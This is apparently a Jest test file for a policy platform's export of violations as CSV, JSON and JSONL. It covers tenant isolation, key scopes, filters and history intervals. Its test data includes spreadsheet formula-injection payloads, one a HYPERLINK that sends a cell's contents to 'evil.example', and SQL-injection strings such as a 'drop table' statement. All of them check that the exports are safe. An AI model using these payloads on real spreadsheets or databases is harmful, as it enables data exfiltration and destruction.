import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import {
  violationColumns,
  violationIntervalColumns,
  violationIntervalSchema,
  violationSchema,
  type PolicyDetail,
  type ViolationIntervalShape,
  type ViolationShape,
} from '#contracts';
import { FakeClock } from '#kernel';
import { bindOwn } from '../support/bindings.js';
import { TestAgent } from '../support/test-agent.js';
import type { TestAnswer, TestClient } from '../support/test-client.js';
import { TestPlatform } from '../support/test-platform.js';

/** Says of a Pod what its annotation says, so that a test can have any message. */
const NOTED = `package noted
violation contains {"path": "metadata.annotations.note", "found": note, "expected": "", "message": note} if {
  note := input.review.object.metadata.annotations.note
}
`;
const NOTES = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'a "quoted" word, a comma',
  'first line\nsecond line\r\nthird',
  'ünïcödé ✓ 政策 \u2028 end',
];
const HOUR = 3_600_000;

const aPod = (name: string, namespace: string, note: string) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, namespace, annotations: { note } },
  spec: { containers: [{ name: 'a', image: 'nginx' }] },
});

describe('violations that are exported', () => {
  const clock = new FakeClock(Date.UTC(2026, 10, 24, 12));
  let platform: TestPlatform;
  let owner: TestClient;
  let agent: TestAgent;
  beforeAll(async () => {
    platform = await TestPlatform.start({ clock });
    ({ owner } = platform);
    const about = { title: 'Noted', category: 'reliability', severity: 'low', kinds: ['Pod'] };
    const made = await owner.post('/api/v1/policies', { slug: 'noted', ...about, rego: NOTED });
    await owner.post(`/api/v1/policies/${(made.body as PolicyDetail).id}/publish`, {});
    await bindOwn(owner, { name: 'noted', policies: [{ policy: 'noted' }] });
    agent = await TestAgent.enroll(platform, owner, 'one');
    const other = await TestAgent.enroll(platform, owner, 'two');
    await agent.list(NOTES.map((note, index) => aPod(`pod-${index}`, index % 2 === 0 ? 'shop' : 'data', note)));
    await other.list([aPod('elsewhere', 'shop', 'x')]);
    await platform.settle();
    clock.advance(HOUR);
    await agent.send([{ op: 'upsert', object: aPod('pod-6', 'shop', 'other words') }]);
    await platform.settle();
    clock.advance(HOUR);
    await agent.send([{ op: 'delete', api_version: 'v1', kind: 'Pod', namespace: 'data', name: 'pod-7' }]);
    await platform.settle();
    clock.advance(HOUR);
  });
  afterAll(() => platform.stop());

  const exported = (path: string, client = owner): Promise<TestAnswer> => client.get(`/api/v1/exports/${path}`);
  const lines = async <Item>(path: string, client = owner): Promise<Item[]> => {
    const { body } = await exported(path, client);
    return String(body)
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Item);
  };
  const table = async (path: string): Promise<Record<string, string>[]> =>
    parse(String((await exported(path)).body), { columns: true, bom: true });
  const listed = async (filter: string): Promise<ViolationShape[]> => {
    const items: ViolationShape[] = [];
    for (let cursor: string | null = ''; cursor !== null;) {
      const { body } = await owner.get(
        `/api/v1/violations?limit=7&${filter}${cursor === '' ? '' : `&cursor=${cursor}`}`,
      );
      const page = body as { items: ViolationShape[]; next_cursor: string | null };
      items.push(...page.items);
      cursor = page.next_cursor;
    }
    return items;
  };

  it('are another organization’s own, and none of ours', async () => {
    const stranger = await platform.stranger();
    const filter = `cluster_id=${agent.clusterId}`;
    for (const query of ['', `?${filter}`, '?history=true', `?history=true&${filter}`]) {
      expect(await exported(`violations.jsonl${query}`, stranger)).toMatchObject({ status: 200, body: '' });
      expect((await exported(`violations.json${query}`, stranger)).body).toEqual([]);
      const csv = String((await exported(`violations.csv${query}`, stranger)).body);
      const columns = query.includes('history') ? violationIntervalColumns : violationColumns;
      expect(csv).toBe(`${Object.keys(columns.shape).join(',')}\r\n`);
    }
  });

  it('need a key of the scope export, which reads no list', async () => {
    const keyOf = async (scope: string): Promise<TestClient> => {
      const { body } = await owner.post('/api/v1/api-keys', { name: scope, scopes: [scope] });
      return platform.client((body as { key: string }).key);
    };
    const [exporter, reader] = [await keyOf('export'), await keyOf('read')];
    expect((await exported('violations.csv', exporter)).status).toBe(200);
    expect((await exported('violations.csv', reader)).body).toMatchObject({ code: 'forbidden_scope' });
    expect((await exporter.get('/api/v1/violations')).status).toBe(403);
    expect((await exported('violations.csv', platform.client())).status).toBe(401);
  });

  it('are those of the list on all its pages, in its order, whatever the filters', async () => {
    const values: Record<string, readonly string[]> = {
      cluster_id: [agent.clusterId, 'cls_nonsense'],
      policy: ['noted', 'no-latest-tag', 'none'],
      severity: ['low', 'medium', 'high'],
      state: ['new', 'ongoing', 'regressed', 'resolved'],
      namespace: ['shop', 'data'],
      q: ['pod', 'pod-7', 'no-', 'x'],
      disposition: ['failing', 'waived'],
      from: ['2026-11-24T13:30:00Z', '2030-01-01T00:00:00Z'],
      to: ['2026-11-24T12:30:00Z', '2020-01-01T00:00:00Z'],
      sort: ['-opened_at', '-severity'],
    };
    // Two at a time: of more, little is left.
    const aFilter = fc
      .subarray(Object.keys(values), { maxLength: 2 })
      .chain((names) =>
        fc.record(Object.fromEntries(names.map((name) => [name, fc.constantFrom(...(values[name] ?? []))]))),
      );
    let found = 0;
    await fc.assert(
      fc.asyncProperty(aFilter, async (filter) => {
        const query = new URLSearchParams(filter).toString();
        const expected = await listed(query);
        found += expected.length;
        expect(await lines(`violations.jsonl?${query}`)).toEqual(expected);
        expect((await exported(`violations.json?${query}`)).body).toEqual(expected);
        expect((await table(`violations.csv?${query}`)).map(({ id }) => id)).toEqual(expected.map(({ id }) => id));
      }),
      { numRuns: 25 },
    );
    expect(found).toBeGreaterThan(10);
  });

  it('are as the contract says, and say so in their headers', async () => {
    for (const violation of await lines('violations.jsonl')) violationSchema.parse(violation);
    const { headers } = await exported('violations.csv?policy=noted');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe('attachment; filename="bylaw-violations-2026-11-24T15-00-00Z.csv"');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect((await exported('violations.jsonl')).headers.get('content-type')).toContain('application/x-ndjson');
    const history = await exported('violations.csv?history=true');
    expect(history.headers.get('content-disposition')).toContain('bylaw-violation-history-2026-11-24');
    const head = await owner.send('HEAD', '/api/v1/exports/violations.csv');
    expect([head.status, head.body, head.headers.get('content-type')]).toEqual([
      200,
      '',
      'text/csv; charset=utf-8; header=present',
    ]);
  });

  it('as CSV start no formula, and keep quotes, commas, line ends and every letter', async () => {
    const rows = await table('violations.csv?policy=noted&state=new');
    expect(rows.filter((row) => Object.values(row).some((cell) => /^[=+\-@\t\r]/.test(cell)))).toEqual([]);
    const messages = new Map(rows.map(({ name, messages: text }) => [name, text]));
    expect(messages.get('pod-0')).toBe(`'${NOTES[0]}`);
    expect(messages.get('pod-4')).toBe(`'${NOTES[4]}`);
    expect(messages.get('pod-5')).toBe(`'${NOTES[5]}`);
    expect(messages.get('pod-8')).toBe(NOTES[8]);
    const [multiline] = await table('violations.csv?history=true&policy=noted&q=pod-7');
    expect(multiline?.['messages']).toBe(NOTES[7]);
    const [quoted] = await table('violations.csv?history=true&policy=noted&q=pod-6');
    expect(quoted?.['messages']).toBe(NOTES[6]);
    const elsewhere = rows.find(({ name }) => name === 'elsewhere');
    expect(elsewhere).toMatchObject({ policy: 'noted', cluster: 'two', kind: 'Pod', findings: '1', resolved_at: '' });
  });

  it('as CSV begin with a byte order mark where Excel is to read it, and else with the header', async () => {
    const bytes = async (query: string): Promise<Buffer> => {
      const response = await fetch(`${platform.url}/api/v1/exports/violations.csv${query}`, {
        headers: { authorization: `Bearer ${owner.key}` },
      });
      return Buffer.from(await response.arrayBuffer());
    };
    expect((await bytes('?bom=true')).subarray(0, 5)).toEqual(Buffer.from([0xef, 0xbb, 0xbf, 0x69, 0x64]));
    expect((await bytes('')).subarray(0, 3).toString()).toBe('id,');
  });

  it('with their history are one row an interval, also of what was changed and what is gone', async () => {
    const of = async (pod: string): Promise<object[]> => {
      const rows = await lines<ViolationIntervalShape>(`violations.jsonl?history=true&policy=noted&q=${pod}`);
      for (const row of rows) violationIntervalSchema.parse(row);
      return rows.map(({ valid_from, valid_to, resolution, findings }) => ({
        from: valid_from.slice(11, 13),
        to: valid_to?.slice(11, 13) ?? null,
        resolution,
        messages: findings.map(({ message }) => message),
      }));
    };
    expect(await of('pod-6')).toEqual([
      { from: '12', to: '13', resolution: null, messages: [NOTES[6]] },
      { from: '13', to: null, resolution: null, messages: ['other words'] },
    ]);
    expect(await of('pod-7')).toEqual([{ from: '12', to: '14', resolution: 'deleted', messages: [NOTES[7]] }]);
    const counted = await table('violations.csv?history=true&policy=noted');
    expect(counted).toHaveLength(NOTES.length + 2);
    expect(new Set(counted.map(({ findings }) => findings))).toEqual(new Set(['1']));
  });

  it('with their history choose by time, by interval and by what became of them', async () => {
    const names = async (query: string): Promise<string[]> =>
      (await lines<ViolationIntervalShape>(`violations.jsonl?history=true&policy=noted&${query}`))
        .map(({ object, valid_to: to }) => `${object.name} ${to === null ? 'lasts' : to.slice(11, 13)}`)
        .sort();
    const all = await names('');
    expect(all.filter((name) => !name.endsWith('lasts'))).toEqual(['pod-6 13', 'pod-7 14']);
    expect(await names('state=resolved')).toEqual(['pod-7 14']);
    expect(await names('q=pod-6&to=2026-11-24T12:30:00Z')).toEqual(['pod-6 13']);
    expect(await names('q=pod-6&from=2026-11-24T13:30:00Z')).toEqual(['pod-6 lasts']);
    expect(await names('to=2026-11-24T12:00:00Z')).toEqual([]);
    expect(await names('disposition=waived')).toEqual([]);
  });

  it.each([
    ['limit=5', 'invalid_filter'],
    ['cursor=abc', 'invalid_filter'],
    ['history=maybe', 'invalid_filter'],
    ['severity=fatal', 'invalid_filter'],
    ['from=yesterday', 'invalid_filter'],
    [`q=${'x'.repeat(254)}`, 'invalid_filter'],
    ['namespace=%00', 'invalid_filter'],
    ['state=new&state=resolved', 'invalid_filter'],
    ['colour=red', 'invalid_filter'],
  ])('%s is refused as by the list, with a problem document and no file', async (query, code) => {
    const { status, body, headers } = await exported(`violations.csv?${query}`);
    expect([status, (body as { code: string }).code]).toEqual([400, code]);
    expect(headers.get('content-disposition')).toBeNull();
    expect(headers.get('content-type')).toContain('application/problem+json');
  });

  it.each([
    `q=${encodeURIComponent("'; drop table app.violation; --")}`,
    `namespace=${encodeURIComponent("' or '1'='1")}`,
    `policy=${encodeURIComponent('$1')}`,
    `q=${encodeURIComponent('?%_')}`,
  ])('%s finds nothing and breaks nothing', async (query) => {
    for (const history of ['', '&history=true']) expect(await lines(`violations.jsonl?${query}${history}`)).toEqual([]);
  });

  it('are in no format that was not promised', async () => {
    expect((await exported('violations.xml')).status).toBe(404);
    expect((await exported('violations')).status).toBe(404);
  });
});
